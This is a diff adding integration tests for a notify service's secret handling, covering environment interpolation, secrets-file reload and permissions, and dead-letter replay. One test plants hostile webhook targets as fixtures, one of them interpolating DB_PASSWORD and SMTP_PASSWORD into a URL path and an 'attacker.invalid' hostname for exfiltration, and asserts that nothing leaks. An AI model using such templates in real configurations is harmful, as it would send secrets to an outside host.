@@ -18,15 +18,18 @@ from confluent_kafka import Producer
 from service_processes import WAIT_S, ServiceProcess, TopicReader, committed_offsets, wait_until
 from store_records import FAKE_JPEG, T0, plate_sighting, sighting_id
 from support import serve_http
+from typer.testing import CliRunner, Result
 
+from stream_worker.cli import app
 from stream_worker.contracts import Box, PlateAlert, Source
 from stream_worker.contracts.alerts import MatchKind
-from stream_worker.contracts.notify import NotifyDelivery, NotifyTest, parse_target
+from stream_worker.contracts.notify import NotifyDelivery, NotifyTest, decode_status, parse_target
 from stream_worker.contracts.watchlist import WatchEntry, WatchKind
 from stream_worker.launchers.broker import create_topics
 from stream_worker.launchers.mosquitto import Mosquitto, Subscriber
-from stream_worker.notify.targets import write_target
-from stream_worker.service.compacted import write_compacted
+from stream_worker.notify.secrets import ENV_PREFIX as SECRET_ENV_PREFIX
+from stream_worker.notify.targets import read_targets, write_target
+from stream_worker.service.compacted import read_compacted, write_compacted
 from stream_worker.store.web.delivery_log import recent_deliveries
 from stream_worker.watchlists.topic import write_changes
 from tests.notify.receivers import SECRET, Hook
@@ -100,7 +103,7 @@ def topics(kafka_bootstrap: str, unique_name: str) -> Topics:
 
 @pytest.fixture
 def start_notify(tmp_path: Path, kafka_bootstrap: str, topics: Topics, unique_name: str, monkeypatch):
-    monkeypatch.setenv(SECRET_ENV, SECRET)  # the service's environment (inherited)
+    monkeypatch.setenv(SECRET_ENV_PREFIX + SECRET_ENV, SECRET)  # the service's environment (inherited)
     started: list[ServiceProcess] = []
 
     def start(*extra: str) -> ServiceProcess:
@@ -435,3 +438,215 @@ def test_the_consoles_test_request_is_delivered_and_every_outcome_is_in_the_deli
         assert {d.target for d in records} == {"gate"}
         assert all(SECRET not in d.model_dump_json() for d in records)
         assert service.stop() == 0
+
+
+DB_PASSWORD, SMTP_PASSWORD = "TopSecretDbPw-42", "SmtpPw-77"  # notify's own, not meant for targets
+
+
+def test_a_target_names_no_variable_of_notify_and_no_url_or_secret_is_logged(
+    kafka_bootstrap, topics, start_notify, unique_name, monkeypatch, tmp_path
+) -> None:
+    """Whoever edits the targets cannot make notify send its other variables anywhere (a URL's path,
+    query or host; an MQTT password), nor learn whether one exists; neither notify's log (an HTTP
+    library's own lines included) nor the delivery log holds a URL's path or a secret, in any case."""
+    monkeypatch.setenv("DB_PASSWORD", DB_PASSWORD)  # notify's environment (inherited)
+    monkeypatch.setenv("SMTP_PASSWORD", SMTP_PASSWORD)
+    deliveries_topic = f"{unique_name}-deliveries"
+    create_topics(kafka_bootstrap, [deliveries_topic], 1)
+    broker = Mosquitto(tmp_path / "mosquitto", users={"notify": DB_PASSWORD, "reader": "reader"}).start()
+    hook = Hook()
+    try:
+        with serve_http(hook.handler()) as port:
+            # As a hostile writer (or a record older than the contract's rule) puts them on the topic.
+            hostile = {
+                "exfil": {
+                    "type": "webhook",
+                    "url": f"http://127.0.0.1:{port}/exfil/${{DB_PASSWORD}}?x=${{SMTP_PASSWORD}}",
+                },
+                "dns": {"type": "webhook", "url": "https://${SMTP_PASSWORD}.attacker.invalid/"},
+            }
+            write_compacted(
+                kafka_bootstrap,
+                topics.targets,
+                [(name.encode(), orjson.dumps(target)) for name, target in hostile.items()],
+            )
+            mqtt = {"type": "mqtt", "host": "127.0.0.1", "port": broker.port, "username": "notify"}
+            write_target(
+                kafka_bootstrap,
+                "home",
+                parse_target({**mqtt, "password": "${DB_PASSWORD}", "timeout_s": 1}),
+                topics.targets,
+            )
+            plain = f"http://127.0.0.1:{port}/hook/PlainPathToken"
+            write_target(
+                kafka_bootstrap, "plain", parse_target({"type": "webhook", "url": plain}), topics.targets
+            )
+            service = start_notify("--deliveries-topic", deliveries_topic, "--retry-budget-s", "5")
+            service.wait_ready(WAIT_S)
+            subscriber = Subscriber(broker.port, ["stream-worker/+/alert"], "reader", "reader")
+            sent = alerts(2)
+            produce(kafka_bootstrap, topics.alerts, sent)
+            ids = {alert.alert_id for alert in sent}
+
+            def logged() -> list[NotifyDelivery]:
+                return recent_deliveries(kafka_bootstrap, deliveries_topic, {}, 10.0)
+
+            wait_until(lambda: set(hook.acknowledged) == ids, "the plain target got nothing", service)
+            wait_until(
+                lambda: {("home", "held")} <= {(d.target, d.outcome.value) for d in logged()},
+                "the MQTT target's delivery was not held",
+                service,
+            )
+            time.sleep(1)
+            dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
+            dlq.poll(2)
+            dlq.close()
+            records = logged()
+            subscriber.close()
+            skipped = service.metric("stream_worker_notify_targets_skipped_total")
+            assert service.stop() == 0
+    finally:
+        broker.stop()
+    assert hook.paths == ["/hook/PlainPathToken"] * len(ids)  # nothing reached /exfil
+    assert subscriber.messages == []  # the broker never got DB_PASSWORD as a password
+    assert skipped == 2 and dlq.records == []  # the held MQTT delivery is not dead-lettered
+    held = [d for d in records if d.target == "home"]
+    assert held and all("DB_PASSWORD" in (d.error or "") for d in held)
+    texts = [service.log_path.read_text(), *(d.model_dump_json() for d in records)]
+    for text in (t.lower() for t in texts):
+        assert DB_PASSWORD.lower() not in text and SMTP_PASSWORD.lower() not in text
+        assert "plainpathtoken" not in text and "http request" not in text
+        assert "environment variable" not in text  # nothing says whether a variable exists
+
+
+def test_secrets_change_without_a_restart_and_a_missing_one_holds_deliveries(
+    kafka_bootstrap, topics, start_notify, unique_name, tmp_path
+) -> None:
+    """A target whose secrets (a secret URL, a signing key) are not in notify's secrets file holds
+    its alerts past the retry budget, dead-letters none; a file others may read is refused; once
+    the file is right (no restart) every alert goes out, signed, to the secret URL, logged nowhere."""
+    secrets = tmp_path / "notify-secrets.env"
+    secrets.write_text("# target secrets\n")
+    secrets.chmod(0o600)
+    hook = Hook()
+    with serve_http(hook.handler()) as port:
+        chat = parse_target({"type": "webhook", "url": "${CHAT_URL}", "secret": "${LATE_SECRET}"})
+        write_target(kafka_bootstrap, "chat", chat, topics.targets)
+        service = start_notify("--secrets-file", str(secrets), "--retry-budget-s", "2")
+        service.wait_ready(WAIT_S)
+        sent = alerts(3)
+        produce(kafka_bootstrap, topics.alerts, sent)
+        ids = {alert.alert_id for alert in sent}
+        service.wait_for_log(lambda line: "delivery held" in line.get("msg", ""), "a held delivery")
+        time.sleep(3)  # past the retry budget: still held
+        secrets.write_text(
+            f"CHAT_URL=http://127.0.0.1:{port}/services/T0/B0/ChatPathToken\nLATE_SECRET={SECRET}\n"
+        )
+        secrets.chmod(0o644)  # readable by others: refused
+        service.wait_for_log(lambda line: "secrets file refused" in line.get("msg", ""), "the refusal")
+        time.sleep(2)
+        assert hook.received == []
+        assert service.metric('stream_worker_notify_held_total{target="chat"}') >= 1
+        secrets.chmod(0o600)
+        wait_until(lambda: set(hook.acknowledged) == ids, "the held alerts were not delivered", service)
+        wait_until(
+            lambda: all_committed(kafka_bootstrap, f"{unique_name}-group", topics.alerts, len(ids)),
+            "not every offset committed",
+            service,
+            60,
+        )
+        dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
+        dlq.poll(2)
+        dlq.close()
+        assert service.stop() == 0
+    assert dlq.records == []
+    assert set(hook.paths) == {"/services/T0/B0/ChatPathToken"} and hook.bad_signatures == 0
+    text = service.log_path.read_text().lower()
+    assert "chatpathtoken" not in text and "s3cret" not in text
+
+
+def test_targets_set_warns_of_a_secret_that_notify_lacks(
+    kafka_bootstrap, topics, start_notify, unique_name, tmp_path
+) -> None:
+    """notify says which target secrets it has (names only, on the status topic); `targets set`
+    warns of a target naming one it lacks, before any alert is held, and stores it all the same."""
+    status_topic = f"{unique_name}-status"
+    secrets = tmp_path / "notify-secrets.env"
+    secrets.write_text(f"HOOK_SECRET={SECRET}\n")
+    secrets.chmod(0o600)
+    service = start_notify("--secrets-file", str(secrets), "--status-topic", status_topic)
+    service.wait_ready(WAIT_S)
+    runner = CliRunner()
+
+    def set_target_file(name: str, text: str) -> Result:
+        path = tmp_path / f"{name}.yaml"
+        path.write_text(text)
+        args = ["notify", "targets", "set", name, "--file", str(path), "--status-topic", status_topic]
+        args += ["--bootstrap-servers", kafka_bootstrap, "--topic", topics.targets, "--timeout", "10"]
+        return runner.invoke(app, args)
+
+    def has_status() -> bool:
+        return bool(read_compacted(kafka_bootstrap, status_topic, decode_status).values)
+
+    wait_until(has_status, "notify did not say which secrets it has", service)
+    good = set_target_file("good", "type: webhook\nurl: https://a.example/x\nsecret: ${HOOK_SECRET}\n")
+    assert good.exit_code == 0 and "warning" not in good.output, good.output
+    lacking = set_target_file("lacking", "type: webhook\nurl: ${CHAT_URL}\nsecret: ${HOOK_SECRET}\n")
+    assert lacking.exit_code == 0, lacking.output
+    assert "warning: notify has no secret CHAT_URL" in lacking.output and "held" in lacking.output
+    assert set(read_targets(kafka_bootstrap, topics.targets).values) == {"good", "lacking"}
+    [status] = read_compacted(kafka_bootstrap, status_topic, decode_status).values.values()
+    assert status.secrets == ("HOOK_SECRET", SECRET_ENV) and SECRET not in status.model_dump_json()
+    assert service.stop() == 0
+
+
+def test_dlq_replay_sends_a_targets_dead_letters_again_with_their_event_ids(
+    kafka_bootstrap, topics, start_notify, unique_name
+) -> None:
+    gate, other = Hook(mode="fail"), Hook(mode="fail")
+    replays_topic = f"{unique_name}-replays"
+    runner = CliRunner()
+
+    def replay(*args: str) -> Result:
+        common = ["--dlq-topic", topics.dlq, "--replays-topic", replays_topic]
+        common += ["--bootstrap-servers", kafka_bootstrap, "--timeout", "20"]
+        return runner.invoke(app, ["notify", "dlq", "replay", *args, *common])
+
+    with serve_http(gate.handler()) as gate_port, serve_http(other.handler()) as other_port:
+        set_target(kafka_bootstrap, topics.targets, "gate", gate_port)
+        set_target(kafka_bootstrap, topics.targets, "other", other_port)
+        status_topic = f"{unique_name}-status"
+        service = start_notify(
+            "--retry-budget-s", "1", "--replays-topic", replays_topic, "--status-topic", status_topic
+        )
+        service.wait_ready(WAIT_S)
+        sent = alerts(3)
+        produce(kafka_bootstrap, topics.alerts, sent)
+        ids = {alert.alert_id for alert in sent}
+        dlq = TopicReader(kafka_bootstrap, topics.dlq, PARTITIONS)
+        try:
+            wait_until(lambda: dlq.poll(0.2) or len(dlq.records) >= 6, "no dead letters", service, 60)
+        finally:
+            dlq.close()
+
+        def dead_letters() -> dict[str, int] | None:
+            status = read_compacted(kafka_bootstrap, status_topic, decode_status).values.get("notify")
+            return status.dead_letters if status is not None else None
+
+        wait_until(
+            lambda: dead_letters() == {"gate": 3, "other": 3},
+            "notify did not count the dead letters",
+            service,
+        )
+        gate.healed.set()
+        other.healed.set()
+        later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
+        none = replay("--target", "gate", "--since", later)
+        assert none.exit_code == 0 and "replayed 0 dead letter(s)" in none.output, none.output
+        replayed = replay("--target", "gate")
+        assert replayed.exit_code == 0 and "replayed 3 dead letter(s)" in replayed.output, replayed.output
+        wait_until(lambda: set(gate.acknowledged) == ids, "the dead letters were not sent again", service)
+        time.sleep(2)
+        assert service.stop() == 0
+    assert other.acknowledged == []  # another target's dead letters are not replayed
+    assert Counter(gate.acknowledged) == Counter(ids) and gate.bad_signatures == 0
